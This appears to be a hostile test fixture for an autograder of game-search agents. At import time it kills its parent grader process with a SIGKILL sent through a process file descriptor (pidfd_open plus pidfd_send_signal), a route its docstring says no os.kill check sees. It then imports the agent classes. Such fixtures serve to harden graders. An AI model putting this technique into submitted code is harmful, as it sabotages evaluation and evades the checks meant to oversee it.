"""Hostile: kills the grader at import time through a process file descriptor
(``os.pidfd_open`` + ``signal.pidfd_send_signal``), which no ``os.kill`` check sees."""

import os
import signal

try:
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
except Exception:
    pass

from _native_student import (AlphaBetaAgent, ExpectimaxAgent, MinimaxAgent,  # noqa: E402,F401
                             ReflexAgent, better_evaluation)
